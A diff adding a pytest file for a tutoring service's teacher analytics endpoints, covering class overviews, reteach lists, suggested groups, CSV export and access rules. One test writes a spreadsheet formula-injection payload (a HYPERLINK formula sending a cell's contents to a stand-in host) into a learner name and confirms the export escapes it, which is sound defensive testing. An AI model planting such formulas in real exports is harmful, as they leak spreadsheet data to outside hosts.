@@ -1,0 +1,331 @@
+"""The teacher's routes (class overview, what to reteach, suggested groups) and CSV export,
+against hand-computed values on a small fixture (SQLite and PostgreSQL).
+
+Group g1 = {u0, u1} (u3, who never answers, joins where a test says). Prerequisites
+c0 -> c1 -> c2. Items: i0 -> c0, c1; i1 -> c0; i5 -> c1, c2; i6 -> c1.
+
+    u0 ("Ada"): i0 1, i1 0, i5 1, i1 1, i1 1, i1 1, i1 1
+    u1:         i1 0, i6 0, i1 1, i6 0, i6 0
+    u2 (g2):    i1 1
+
+Own evidence (mastered: >= 3 own answers and evidence >= 0.8; struggling: 3 wrong in a
+row, or 8 questions without mastery):
+
+    u0: c0 = 1 0 1 1 1 1 (mastered), c1 = 1 1 (learning), c2 = 1 (learning), c3: none
+    u1: c0 = 0 1 (learning), c1 = 0 0 0 (struggling), c2, c3: none
+
+Counts: u0 1 mastered, 2 learning, 0 struggling, 1 not started; u1 0, 1, 1, 2.
+What to reteach: c1 (1 struggling), then c0 and c2 (1 learning each, curriculum order).
+Ready to learn (not mastered, not struggling, prerequisites mastered, in curriculum order):
+u0 c1 (c0 mastered) and c3 (no prerequisites), not c2 (c1 not mastered); u1 c0 and c3.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import numpy as np
+import pytest
+
+ANSWERS = [
+    ("a1", "u0", "i0", 1, "10:00"),
+    ("a2", "u0", "i1", 0, "10:01"),
+    ("a3", "u0", "i5", 1, "10:02"),
+    ("a4", "u0", "i1", 1, "10:03"),
+    ("a5", "u0", "i1", 1, "10:04"),
+    ("a6", "u0", "i1", 1, "10:05"),
+    ("a7", "u0", "i1", 1, "10:06"),
+    ("b1", "u1", "i1", 0, "10:00"),
+    ("b2", "u1", "i6", 0, "10:05"),
+    ("b3", "u1", "i1", 1, "10:06"),
+    ("b4", "u1", "i6", 0, "10:07"),
+    ("b5", "u1", "i6", 0, "10:08"),
+    ("x1", "u2", "i1", 1, "10:04"),
+]
+
+
+@pytest.fixture
+def taught(client, world):
+    from tutor.analytics import clear_caches
+
+    clear_caches()
+    h = world.headers("admin")
+    assert client.put("/v1/learners/u0", json={"name": "Ada"}, headers=h).status_code == 200
+    batch = [
+        {"event_id": e, "learner_id": u, "item_id": i, "correct": c}
+        | {"timestamp": f"2024-03-01T{t}:00Z"}
+        for e, u, i, c, t in ANSWERS
+    ]
+    r = client.post("/v1/answers", json={"answers": batch}, headers=world.headers("ingest"))
+    assert r.status_code == 201, r.text
+    return client
+
+
+def _names(client, world) -> dict[str, str]:
+    r = client.get("/v1/concepts?limit=100", headers=world.headers("admin"))
+    return {c["id"]: c["name"] or f"concept {c['id']}" for c in r.json()["concepts"]}
+
+
+def _curriculum(client, world) -> list[str]:
+    grid = client.get("/v1/analytics/groups/g1/mastery", headers=world.headers("admin")).json()
+    return [c["concept_id"] for c in grid["concepts"]]
+
+
+def test_statuses_are_those_of_the_mastery_route(taught, world):
+    h = world.headers("admin")
+    want = {
+        "u0": {"c0": "mastered", "c1": "learning", "c2": "learning", "c3": "estimated"},
+        "u1": {"c0": "learning", "c1": "struggling", "c2": "estimated", "c3": "estimated"},
+    }
+    for u, statuses in want.items():
+        r = taught.get(f"/v1/learners/{u}/mastery", headers=h).json()
+        assert {c["concept_id"]: c["status"] for c in r["concepts"]} == statuses
+
+
+def test_class_overview(taught, world):
+    h = world.headers("teacher")
+    taught.put("/v1/groups/g1/members", json=["u0", "u1", "u3"], headers=world.headers("admin"))
+    r = taught.get("/v1/analytics/groups/g1/students", headers=h)
+    assert r.status_code == 200, r.text
+    body = r.json()
+    assert body["total"] == 3 and body["concepts"] == 4 and body["timed"] is True
+    assert body["latest_activity"].startswith("2024-03-01T10:08:00")
+    assert "at least 3 own answers" in body["rule_text"]
+    rows = {x["learner_id"]: x for x in body["students"]}
+    counts = {
+        u: (x["mastered"], x["learning"], x["struggling"], x["not_started"])
+        for u, x in rows.items()
+    }
+    assert counts == {"u0": (1, 2, 0, 1), "u1": (0, 1, 1, 2), "u3": (0, 0, 0, 4)}
+    # sorted by what a teacher reads: the display name where given, else the id
+    assert [x["label"] for x in body["students"]] == ["Ada", "u1", "u3"]
+    assert rows["u0"]["name"] == "Ada" and rows["u1"]["name"] == ""
+    assert [x["answers"] for x in body["students"]] == [7, 5, 0]
+    assert rows["u0"]["last_activity"].startswith("2024-03-01T10:06:00")
+    assert rows["u0"]["days_inactive"] == pytest.approx(2 / 1440, abs=1e-4)
+    assert rows["u3"]["last_activity"] is None
+    names = _names(taught, world)
+    assert rows["u1"]["struggling_on"] == [{"concept_id": "c1", "name": names["c1"]}]
+    assert rows["u0"]["struggling_on"] == []
+    order = _curriculum(taught, world)
+
+    def ready(*cs: str) -> list[str]:
+        return sorted(cs, key=order.index)
+
+    assert [c["concept_id"] for c in rows["u0"]["ready_to_learn"]] == ready("c1", "c3")
+    assert [c["concept_id"] for c in rows["u1"]["ready_to_learn"]] == ready("c0", "c3")
+    # u3 has mastered nothing: the concepts without prerequisites (c0, c3)
+    assert [c["concept_id"] for c in rows["u3"]["ready_to_learn"]] == ready("c0", "c3")
+    # sorting and paging
+    r = taught.get("/v1/analytics/groups/g1/students?sort=struggling&limit=1", headers=h)
+    assert [x["learner_id"] for x in r.json()["students"]] == ["u1"]
+    r = taught.get("/v1/analytics/groups/g1/students?sort=not_started&offset=1", headers=h)
+    assert [x["learner_id"] for x in r.json()["students"]] == ["u1", "u0"]
+    assert taught.get("/v1/analytics/groups/g1/students?sort=x", headers=h).status_code == 422
+
+
+def test_what_to_reteach(taught, world):
+    r = taught.get("/v1/analytics/groups/g1/reteach", headers=world.headers("teacher"))
+    assert r.status_code == 200, r.text
+    body = r.json()
+    rows = body["concepts"]
+    assert [x["concept_id"] for x in rows] == ["c1", "c0", "c2"] and body["total"] == 3
+    got = {
+        x["concept_id"]: (x["struggling"], x["learning"], x["mastered"], x["not_started"])
+        for x in rows
+    }
+    assert got == {"c1": (1, 1, 0, 0), "c0": (0, 1, 1, 0), "c2": (0, 1, 0, 1)}
+    by = {x["concept_id"]: x for x in rows}
+    assert by["c1"]["struggling_students"] == ["u1"]
+    assert by["c0"]["struggling_students"] == []
+    # c0's answers: u0 i0 1, i1 0 1 1 1 1; u1 i1 0 1 -> 8 answers, 6 correct
+    assert (by["c0"]["answers"], by["c0"]["practised_by"]) == (8, 2)
+    assert by["c0"]["success_rate"] == pytest.approx(6 / 8)
+    # c1: u0 i0 1, i5 1; u1 i6 0 0 0 -> 5 answers, 2 correct
+    assert by["c1"]["success_rate"] == pytest.approx(2 / 5)
+    mastery = {
+        u: {
+            c["concept_id"]: c["mastery"]
+            for c in taught.get(f"/v1/learners/{u}/mastery", headers=world.headers("admin")).json()[
+                "concepts"
+            ]
+        }
+        for u in ("u0", "u1")
+    }
+    assert by["c0"]["mean_mastery"] == pytest.approx(
+        (mastery["u0"]["c0"] + mastery["u1"]["c0"]) / 2, abs=2e-6
+    )
+    assert by["c2"]["mean_mastery"] == pytest.approx(mastery["u0"]["c2"], abs=2e-6)
+    page = taught.get(
+        "/v1/analytics/groups/g1/reteach?limit=1&offset=1", headers=world.headers("teacher")
+    )
+    assert [x["concept_id"] for x in page.json()["concepts"]] == ["c0"]
+
+
+def test_suggested_groups_small_class_is_one_group(taught, world):
+    h = world.headers("admin")
+    taught.put("/v1/groups/g1/members", json=["u0", "u1", "u3"], headers=h)
+    r = taught.get("/v1/analytics/groups/g1/suggested-groups", headers=world.headers("teacher"))
+    assert r.status_code == 200, r.text
+    body = r.json()
+    # two active students cannot make two groups of at least three
+    assert len(body["groups"]) == 1
+    g = body["groups"][0]
+    assert g["size"] == 2 and {s["label"] for s in g["students"]} == {"Ada", "u1"}
+    # need = 2 x struggling + learning: c1 (2 + 1), then c0 and c2 (1 each, curriculum order)
+    assert [c["concept_id"] for c in g["needs"]] == ["c1", "c0", "c2"]
+    assert g["needs"][0] == {
+        "concept_id": "c1",
+        "name": _names(taught, world)["c1"],
+        "struggling": 1,
+        "learning": 1,
+    }
+    assert g["mean_counts"] == {
+        "mastered": 0.5,
+        "learning": 1.5,
+        "struggling": 0.5,
+        "not_started": 1.5,
+    }
+    # first ready concept: u0 c1, u1 c0 (a tie: the earlier in the curriculum)
+    assert g["ready_to_learn"]["concept_id"] == "c0" and g["ready_to_learn"]["students"] == 1
+    assert g["summary"].startswith("struggling with " + _names(taught, world)["c1"])
+    assert body["not_started"] == [{"learner_id": "u3", "label": "u3"}]
+
+
+def test_clustering_separates_clear_groups():
+    """Two kinds of students (four have mastered concepts 0-2, four struggle with them) and
+    two outliers too few for a group of their own: two groups, each one kind."""
+    from tutor.teaching import MIN_GROUP_STUDENTS, _cluster
+
+    strong = [1, 1, 1, 0, 0, 0, 0, 0, 0]  # mastered c0-c2 (one-hot: mastered block first)
+    weak = [0, 0, 0, 0, 0, 0, 1, 1, 1]  # struggling c0-c2
+    x = np.array([strong] * 4 + [weak] * 4, dtype=float)
+    labels = _cluster(x, 5)
+    assert len(set(labels[:4])) == 1 and len(set(labels[4:])) == 1 and labels[0] != labels[4]
+    assert _cluster(x, 1).tolist() == [0] * 8
+    # no group smaller than MIN_GROUP_STUDENTS
+    mixed = np.vstack([x, [[0, 0, 0, 1, 1, 1, 0, 0, 0]] * (MIN_GROUP_STUDENTS - 1)])
+    sizes = np.bincount(_cluster(mixed, 5))
+    assert sizes.min() >= MIN_GROUP_STUDENTS
+    # the same answer every time
+    assert _cluster(mixed, 5).tolist() == _cluster(mixed, 5).tolist()
+
+
+def _csv(r) -> list[dict[str, str]]:
+    assert r.status_code == 200, r.text
+    assert r.headers["content-type"].startswith("text/csv")
+    assert r.headers["content-disposition"].startswith("attachment; filename=")
+    return list(csv.DictReader(io.StringIO(r.text)))
+
+
+def test_csv_export_of_every_table(taught, world):
+    h = world.headers("teacher")
+    base = "/v1/analytics/groups/g1"
+    students = _csv(taught.get(f"{base}/students?format=csv", headers=h))
+    assert [x["learner_id"] for x in students] == ["u0", "u1"]
+    assert students[0]["name"] == "Ada" and students[1]["struggling"] == "1"
+    assert students[1]["struggling_on"] == _names(taught, world)["c1"]
+    # Accept: text/csv asks for it too
+    assert _csv(taught.get(f"{base}/students", headers=h | {"Accept": "text/csv"})) == students
+    reteach = _csv(taught.get(f"{base}/reteach?format=csv", headers=h))
+    assert [x["concept_id"] for x in reteach] == ["c1", "c0", "c2"]
+    assert reteach[0]["struggling_students"] == "u1"
+    # the grid: one row per (learner, concept), the whole group without a limit
+    grid = _csv(taught.get(f"{base}/mastery?format=csv", headers=h))
+    assert len(grid) == 2 * 4
+    row = next(x for x in grid if x["learner_id"] == "u1" and x["concept_id"] == "c1")
+    assert (row["status"], row["own_answers"]) == ("struggling", "3")
+    assert len(_csv(taught.get(f"{base}/mastery?format=csv&limit=1", headers=h))) == 4
+    groups = _csv(taught.get(f"{base}/suggested-groups?format=csv", headers=h))
+    assert {x["learner_id"] for x in groups} == {"u0", "u1"}
+    risk = _csv(taught.get(f"{base}/at-risk?format=csv", headers=h))
+    assert set(risk[0]) >= {"learner_id", "severity", "reasons"}
+    _set(world, curve_min_learners=1)
+    curves = _csv(taught.get(f"{base}/learning-curves?format=csv", headers=h))
+    assert {x["concept_id"] for x in curves} == {"c0", "c1", "c2"}
+    assert set(curves[0]) >= {"observed_low", "observed_high", "predicted_error"}
+    items = _csv(taught.get(f"{base}/items?format=csv", headers=h))
+    assert {x["item_id"] for x in items} == {"i0", "i1", "i5", "i6"}
+    tl = _csv(taught.get("/v1/analytics/learners/u0/timeline?format=csv", headers=h))
+    assert [x["event_id"] for x in tl] == [f"a{k}" for k in range(1, 8)]
+    assert any(c.startswith("estimate: ") for c in tl[0])
+    # JSON stays the default, and an unknown format is a 422
+    assert (
+        taught.get(f"{base}/students", headers=h)
+        .headers["content-type"]
+        .startswith("application/json")
+    )
+    assert taught.get(f"{base}/students?format=xml", headers=h).status_code == 422
+
+
+def test_csv_cells_never_run_as_formulas(taught, world):
+    h = world.headers("admin")
+    evil = '=HYPERLINK("http://x.test/?"&A1,"click")'
+    assert taught.put("/v1/learners/u1", json={"name": evil}, headers=h).status_code == 200
+    rows = _csv(taught.get("/v1/analytics/groups/g1/students?format=csv", headers=h))
+    cell = next(x["name"] for x in rows if x["learner_id"] == "u1")
+    assert cell == "'" + evil
+    # numbers stay numbers (a negative change is not text)
+    risk = _csv(taught.get("/v1/analytics/groups/g1/at-risk?format=csv", headers=h))
+    for x in risk:
+        if x["mastery_change"]:
+            float(x["mastery_change"])
+
+
+def _set(world, **values) -> None:
+    from sqlalchemy import select
+
+    from tutor.db import Organisation, create_db_engine, make_sessionmaker
+
+    engine = create_db_engine(world.url)
+    with make_sessionmaker(engine)() as s, s.begin():
+        org = s.scalar(select(Organisation).where(Organisation.slug == "acme"))
+        org.settings = {**(org.settings or {}), **values}
+    engine.dispose()
+
+
+def test_small_numbers_are_hidden_by_default(taught, world):
+    """With the default minimum of 10 learners, the fixture's two learners make no curve
+    point and no item flag; the settings lower it."""
+    h = world.headers("admin")
+    body = taught.get("/v1/analytics/groups/g1/learning-curves", headers=h).json()
+    assert body["min_learners"] == 10
+    assert all(c["points"] == [] and c["hidden_points"] > 0 for c in body["curves"])
+    _set(world, item_flag_min_attempts=1, item_flag_z=0.0001)
+    items = taught.get("/v1/analytics/groups/g1/items", headers=h).json()
+    assert items["thresholds"]["item_flag_min_learners"] == 10
+    assert not any(i["flagged"] or i["enough_data"] for i in items["items"])
+    # every item still shows its observed success with an interval around it
+    for i in items["items"]:
+        assert i["observed_low"] <= i["observed_success"] <= i["observed_high"]
+    r = taught.patch("/v1/organisation/settings", json={"curve_min_learners": 2}, headers=h)
+    assert r.status_code == 200, r.text
+    body = taught.get("/v1/analytics/groups/g1/learning-curves", headers=h).json()
+    pts = {c["concept_id"]: [p["opportunity"] for p in c["points"]] for c in body["curves"]}
+    # c0: both learners at opportunities 1 and 2; c1: 1 and 2 (u0 has 2, u1 3); c2: u0 only
+    assert pts["c0"][:2] == [1, 2] and pts["c2"] == []
+
+
+def test_teacher_routes_access_rules(taught, world):
+    routes = ["students", "reteach", "suggested-groups"]
+    expect = {
+        ("admin", "g1"): 200,
+        ("admin", "g2"): 200,
+        ("teacher", "g1"): 200,
+        ("teacher", "g2"): 404,  # not its group
+        ("admin", "nope"): 404,
+        ("learner", "g1"): 403,
+        ("ingest", "g1"): 403,
+        ("other_admin", "g1"): 404,  # another organisation
+    }
+    for route in routes:
+        for (who, g), code in expect.items():
+            for fmt in ("", "?format=csv"):
+                url = f"/v1/analytics/groups/{g}/{route}{fmt}"
+                r = taught.get(url, headers=world.headers(who))
+                assert r.status_code == code, (route, who, g, fmt, r.text)
+                if code != 200:
+                    # errors stay JSON with a detail, CSV asked or not
+                    assert "detail" in r.json()
+        assert taught.get(f"/v1/analytics/groups/g1/{route}").status_code == 401
